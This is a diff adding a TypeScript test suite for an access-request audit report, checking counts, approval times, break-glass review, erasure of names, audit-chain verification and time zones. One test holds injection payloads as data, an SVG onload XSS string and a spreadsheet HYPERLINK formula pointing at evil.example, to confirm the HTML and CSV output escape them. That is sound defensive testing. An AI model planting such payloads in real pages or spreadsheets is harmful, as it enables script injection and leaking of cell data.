@@ -1,0 +1,137 @@
+import { Client } from "pg";
+import { csvOf } from "../../src/audit/report/figures-csv.ts";
+import type { Figures } from "../../src/audit/report/figures.ts";
+import { htmlOf } from "../../src/audit/report/html.ts";
+import { parsePeriod } from "../../src/audit/report/period.ts";
+import { readFigures } from "../../src/audit/report/read-figures.ts";
+import { fillQuarter, hostile, sealAll } from "../support/audited-quarter.ts";
+import { createDatabase, type TestDatabase } from "../support/database.ts";
+
+let database: TestDatabase;
+let figures: Figures;
+
+beforeAll(async () => {
+  database = await createDatabase();
+  await fillQuarter(database.url);
+  figures = await read("2025-Q3", "UTC");
+});
+afterAll(() => database.close());
+
+async function read(name: string, timeZone: string): Promise<Figures> {
+  const parsed = parsePeriod(name, timeZone);
+  if (!parsed.ok) throw new Error(parsed.fault);
+  const verification = await sealAll(database.url);
+  return readFigures({ databaseUrl: database.url }, { period: parsed.period, zoneNote: "", verification });
+}
+
+/** Counted another way: each event looked at by itself. */
+async function count(condition: string): Promise<number> {
+  const client = new Client({ connectionString: database.url });
+  await client.connect();
+  try {
+    const { rows } = await client.query<{ count: number }>(
+      `select count(*)::int as count from audit_events where at >= '2025-07-01T00:00Z' and at < '2025-10-01T00:00Z' and ${condition}`,
+    );
+    return rows[0]?.count ?? 0;
+  } finally {
+    await client.end();
+  }
+}
+
+test("requests are counted by week, the weeks add up to the period, and what came after it is not in it", async () => {
+  const sum = (what: "filed" | "approved" | "denied" | "refused" | "expired" | "cancelled"): number =>
+    figures.weeks.reduce((total, week) => total + week[what], 0);
+  expect(figures.weeks).toHaveLength(14);
+  expect(sum("filed")).toBe(await count("type in ('request.created', 'request.refused')"));
+  expect(sum("approved")).toBe(await count("type = 'request.approved'"));
+  expect(sum("denied")).toBe(await count("type = 'request.denied'"));
+  expect([sum("denied"), sum("refused"), sum("expired"), sum("cancelled")]).toEqual([20, 20, 20, 20]);
+});
+
+test("neither a rule nor broken glass counts as time to approve", () => {
+  expect(figures.approvedBy).toEqual({ people: 280, rule: 40, breakGlass: 2 });
+  expect(figures.waits.count).toBe(280);
+  expect(figures.waits.histogram.reduce((sum, each) => sum + each, 0)).toBe(280);
+  expect(figures.waits.medianSeconds).toBeGreaterThan(20);
+  expect(figures.waits.p95Seconds).toBeGreaterThan(figures.waits.medianSeconds ?? 0);
+});
+
+test("access is told apart by risk, resource, and whether the person held it before", async () => {
+  expect(figures.standing).toMatchObject({ justInTime: 302, alreadyHeld: 20 });
+  expect(figures.standing.hoursHeld).toBeCloseTo(300, 1);
+  const high = figures.weeksByRisk.reduce((sum, week) => sum + week.high, 0);
+  expect(high).toBe(
+    await count(
+      "resource = 'orders-db' and type = 'grant.active' and data ->> 'standing' is distinct from 'true'",
+    ),
+  );
+  expect(figures.resources.total).toBe(4);
+  expect(figures.resources.rows.find(({ resource }) => resource === "orders-db")?.high).toBe(high);
+});
+
+test("what is rare is listed: broken glass and its review, late revocations, own requests, flags, drift", () => {
+  expect(figures.breakGlass.rows).toEqual([
+    expect.objectContaining({ request: "AR-2001", verdict: undefined, risk: "high" }),
+    expect.objectContaining({ request: "AR-2002", verdict: "object", note: hostile.note }),
+  ]);
+  expect(figures.overdue).toMatchObject({ total: 1, rows: [{ lateSeconds: 4_000, goneAt: undefined }] });
+  expect(figures.refusedClicks).toEqual([
+    { why: "own_request", count: 2 },
+    { why: "not_approver", count: 1 },
+  ]);
+  expect(figures.ownRequests).toMatchObject({ total: 2, rows: [{ person: "erin@example.com" }, {}] });
+  expect(figures.flags).toMatchObject({
+    total: 2,
+    rows: [
+      { kind: "unusual_hour", why: hostile.why },
+      { kind: "first_time", why: "" },
+    ],
+  });
+  expect(figures.drift).toMatchObject([{ provider: "orders-postgres", "drift.found": 1 }]);
+  expect(figures.driftFindings.rows[0]).toMatchObject({ subject: "intruder", access: "orders-db:write" });
+});
+
+test("who was erased is a number everywhere", () => {
+  expect(figures.breakGlass.rows[0]?.requester).toMatch(/^erased person \d+$/);
+  for (const written of [htmlOf(figures), csvOf(figures)]) {
+    expect(written).toMatch(/erased person \d+/);
+    expect(written).not.toContain("gone@example.com");
+  }
+});
+
+test("the chain is said to be as it was written, with the places of the period", () => {
+  expect(figures.chain.verification.faults).toEqual([]);
+  const { verified } = figures.chain.verification;
+  // The denial afterwards, and the erasure, are later.
+  expect(figures.chain).toMatchObject({ first: 1, last: verified - 2, unsealed: 0 });
+  expect(htmlOf(figures)).toContain("is as it was written");
+});
+
+test("days are those of the time zone", async () => {
+  // The one denial after the period is within it where clocks are behind.
+  const there = await read("2025-Q3", "America/New_York");
+  expect(there.counts["request.denied"]).toBe(21);
+});
+
+test("what people wrote is text: no markup in the page, no formula in a cell", () => {
+  const page = htmlOf(figures);
+  expect(page).not.toMatch(/<script|<img|onload=alert\(1\)>/);
+  expect(page).toContain("&quot;&gt;&lt;svg onload=alert(1)&gt;");
+  expect(page).not.toContain("\u202e");
+  const cells = csvOf(figures);
+  expect(cells).toContain(`"'=HYPERLINK(""https://evil.example/""&A1)"`);
+  expect(cells).not.toMatch(/^(?:[^\n]*,)?"?[=+@]/m);
+});
+
+test("a period without events is a report all the same", async () => {
+  const empty = await read("2024-02", "UTC");
+  expect(empty.weeks.map(({ week }) => week)).toEqual([
+    "2024-01-29",
+    "2024-02-05",
+    "2024-02-12",
+    "2024-02-19",
+    "2024-02-26",
+  ]);
+  expect(htmlOf(empty)).toContain("Nothing was approved by people.");
+  expect(csvOf(empty)).toContain("requests,Requests in all / filed / Count,0\n");
+});
